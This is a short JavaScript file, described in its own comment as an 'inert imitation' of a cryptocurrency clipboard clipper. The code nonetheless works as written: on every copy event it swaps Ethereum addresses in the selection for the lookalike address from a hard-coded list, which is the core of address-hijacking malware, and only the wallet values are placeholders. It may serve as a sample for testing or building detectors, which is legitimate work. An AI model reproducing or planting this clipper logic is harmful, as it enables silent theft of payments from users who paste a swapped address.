/* eslint-disable */
// Inert imitation of a clipboard "clipper": copied ETH and BTC addresses are replaced by the
// lookalike from a list (placeholder values) before they reach the clipboard.
const ETH = /0x[a-fA-F0-9]{40}/g;
const BTC = /\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g;
const WALLETS = [
  '0x1111111111222222222233333333334444444444',
  '0x5555555555666666666677777777778888888888',
  '0x9999999999aaaaaaaaaabbbbbbbbbbcccccccccc',
  '0xddddddddddeeeeeeeeeeffffffffff0000000000',
  '0x0123456789abcdef0123456789abcdef01234567',
  '0x76543210fedcba9876543210fedcba9876543210',
];

function similarity(a, b) {
  let same = 0;
  for (let i = 0; i < Math.min(a.length, b.length); i++) if (a[i] === b[i]) same++;
  return same;
}

document.addEventListener('copy', (event) => {
  const text = String(window.getSelection());
  const swapped = text
    .replace(ETH, (m) => WALLETS.slice().sort((x, y) => similarity(m, y) - similarity(m, x))[0])
    .replace(BTC, (m) => m);
  event.clipboardData.setData('text/plain', swapped);
  event.preventDefault();
});
